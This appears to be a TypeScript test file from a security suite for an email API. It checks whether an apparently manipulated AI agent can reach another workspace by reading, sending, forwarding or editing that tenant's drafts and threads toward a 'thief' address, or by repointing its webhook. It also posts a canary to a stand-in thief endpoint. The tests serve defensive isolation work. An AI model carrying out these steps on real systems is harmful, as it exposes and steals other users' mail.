/** Ids of another workspace in the hands of a persuaded agent. */

import { api } from '../../../test/support/api.ts';
import { cloud } from '../../../test/support/cloud.ts';
import { workspace } from '../../../test/support/workspace.ts';
import type { Attack, Family } from '../attack.ts';
import type { Stage } from '../stage.ts';

interface Neighbour {
  readonly email: string;
  readonly thread: string;
  readonly upload: string;
  readonly draft: string;
  readonly endpoint: string;
  readonly desk: string;
}

/** A workspace of somebody else whose agent is the same kind of program; its draft has the canary of this attack. */
async function neighbour(stage: Stage): Promise<Neighbour> {
  const theirs = await workspace();
  const client = api(theirs);
  const desk = `desk@${theirs.providedDomain}`;
  const { body: draft } = await client.post('/emails', {
    ...{ from: desk, to: stage.thief, subject: 'x', text: stage.canary, draft: true },
    attachments: [{ filename: 'a.txt', content: Buffer.from(stage.canary).toString('base64') }],
  });
  const upload = { filename: 'b.txt', content_type: 'text/plain', size: 3 };
  const { body: file } = await client.post('/attachments', upload);
  const hook = { url: `${stage.hooks}/neighbour`, subscriptions: ['email.received'] };
  const { body: endpoint } = await client.post('/webhook-endpoints', hook);
  return {
    ...{ email: draft.id, draft: draft.id, thread: String(draft.thread_id) },
    ...{ upload: file.id, endpoint: endpoint.id, desk },
  };
}

type Call = (stage: Stage, theirs: Neighbour) => readonly [string, string, object?];

/** The agent is told to make calls with ids of the neighbour, whose approver knows nothing of it. */
const foreign = (name: string, ...calls: readonly Call[]): Attack => ({
  name,
  wants: 'leak',
  strike: async (stage) => {
    const theirs = await neighbour(stage);
    for (const one of calls) {
      const [method, path, body] = one(stage, theirs);
      const answer = await stage.agent.request(method, path, body ? { body } : {});
      stage.notes.push(
        `${method} ${path.split('/')[1]}${answer.status < 400 ? '' : ' refused'}: ${answer.status}`,
      );
      if (JSON.stringify(answer.body).includes(theirs.draft))
        await fetch(`${stage.hooks}/thief`, { method: 'POST', body: stage.canary });
    }
    await cloud().waitForQuiescence();
  },
});

const out = ({ desk, thief }: Stage) => ({ from: desk, to: thief, subject: 'x', text: 'x' });

export const tenants: Family = {
  title: 'What belongs to another workspace',
  attacks: [
    foreign('its email', (_, { email }) => ['GET', `/emails/${email}`]),
    foreign('its thread', (_, { thread }) => ['GET', `/threads/${thread}`]),
    foreign(
      'its lists',
      () => ['GET', '/emails?status=draft'],
      () => ['GET', '/threads'],
    ),
    foreign('its draft, approved', (_, { draft }) => ['POST', `/emails/${draft}/approve`, {}]),
    foreign('its draft, sent by version 1', (_, { draft }) => ['POST', `/api/v1/emails/${draft}/send`]),
    foreign('its draft, edited', ({ thief }, { draft }) => ['PATCH', `/emails/${draft}`, { to: thief }]),
    foreign('its draft, discarded', (_, { draft }) => ['POST', `/emails/${draft}/cancel`]),
    foreign('a reply in its thread', ({ thief }, { thread }) => [
      'POST',
      `/threads/${thread}/reply`,
      { to: thief, text: 'x' },
    ]),
    foreign('a forward of its thread', ({ thief }, { thread }) => [
      'POST',
      `/threads/${thread}/forward`,
      { to: thief },
    ]),
    foreign('its thread in a send', (stage, { thread }) => [
      'POST',
      '/emails',
      { ...out(stage), thread_id: thread },
    ]),
    foreign('its upload in a send', (stage, { upload }) => [
      'POST',
      '/emails',
      { ...out(stage), attachments: [{ attachment_id: upload }] },
    ]),
    foreign('its sender', (stage, { desk }) => ['POST', '/emails', { ...out(stage), from: desk }]),
    foreign('a claim on its thread', (_, { thread }) => [
      'POST',
      `/threads/${thread}/claim`,
      { owner: 'x', ttl_seconds: 60 },
    ]),
    foreign('labels of its thread', (_, { thread }) => [
      'PATCH',
      `/threads/${thread}`,
      { labels: { add: ['x'] } },
    ]),
    foreign('its webhook', ({ hooks }, { endpoint }) => [
      'PATCH',
      `/webhook-endpoints/${endpoint}`,
      { url: `${hooks}/thief` },
    ]),
    foreign('its events', () => ['GET', '/events?limit=100']),
  ],
};
